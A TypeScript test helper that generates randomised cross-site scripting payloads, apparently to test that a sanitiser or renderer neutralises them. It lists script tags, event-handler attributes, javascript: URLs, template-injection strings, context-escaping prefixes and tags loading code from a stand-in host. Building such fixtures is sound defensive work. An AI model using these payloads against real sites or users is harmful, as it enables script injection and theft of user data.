import { between, type RandomSource, oneOf } from '../lib/proof.ts';

/** The host that texts would send requests to if they were run. It does not exist, and nothing may request it. */
export const ELSEWHERE = 'https://hostile.invalid';

/** Texts that run something when taken for markup. `n` tells them apart; each would open a dialog or send a request. */
const VECTORS: readonly ((n: number) => string)[] = [
  (n) => `<script>alert(${n})</script>`,
  (n) => `<script src=${ELSEWHERE}/${n}></script>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<img src="${ELSEWHERE}/${n}">`,
  (n) => `<svg onload=alert(${n})>`,
  (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s></svg>`,
  (n) => `<svg><script href=${ELSEWHERE}/${n} /></svg>`,
  (n) => `<iframe srcdoc="<script>parent.alert(${n})</script>"></iframe>`,
  (n) => `<iframe src=javascript:alert(${n})></iframe>`,
  (n) => `<object data=${ELSEWHERE}/${n}></object>`,
  (n) => `<embed src=${ELSEWHERE}/${n}>`,
  (n) => `<link rel=stylesheet href=${ELSEWHERE}/${n}>`,
  (n) => `<style>@import '${ELSEWHERE}/${n}';</style>`,
  (n) => `<div style="background:url(${ELSEWHERE}/${n})">x</div>`,
  (n) => `<base href=${ELSEWHERE}/${n}/>`,
  (n) => `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/${n}">`,
  (n) => `<form action=${ELSEWHERE}/${n}><input autofocus onfocus=alert(${n})></form>`,
  (n) => `<details open ontoggle=alert(${n})>x</details>`,
  (n) => `<video><source onerror=alert(${n})></video>`,
  (n) => `<audio src=x onerror=alert(${n})></audio>`,
  (n) => `<body onload=alert(${n})>`,
  (n) => `<marquee onstart=alert(${n})>x</marquee>`,
  (n) => `<a href="javascript:alert(${n})" autofocus onfocus=alert(${n})>open</a>`,
  (n) => `<math><mi xlink:href="javascript:alert(${n})">x</mi></math>`,
  (n) => `<template><img src=x onerror=alert(${n})></template>`,
  (n) => `<input onblur=alert(${n}) autofocus><input autofocus>`,
  (n) => `javascript:alert(${n})`,
  (n) => `[open](javascript:alert(${n}))`,
  (n) => `![x](${ELSEWHERE}/${n})`,
  (n) => `{{constructor.constructor('alert(${n})')()}}`,
  (n) => `\${alert(${n})}`,
  (n) => `&lt;img src=x onerror=alert(${n})&gt;`,
  (n) => `\\u003cimg src=x onerror=alert(${n})\\u003e`,
  (n) => `${ELSEWHERE}/${n}`,
];

/** Prefixes that end the context in which a text may have been inserted. */
const ESCAPES = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '\u202E',
  '" onmouseover=alert(1) x="',
];

/** Returns a unique hostile text of at most 200 characters. */
export function hostileText(run: RandomSource, n: number): string {
  const vector = VECTORS[n % VECTORS.length] ?? String;
  return `${oneOf(run, ESCAPES)}${withRandomCase(run, vector(n))} #${n}`;
}

/** Element names are recognized in any case. */
const withRandomCase = (run: RandomSource, text: string): string =>
  text.replaceAll(/<\/?[a-z]+/g, (tag) => (between(run, 0, 1) === 0 ? tag : tag.toUpperCase()));
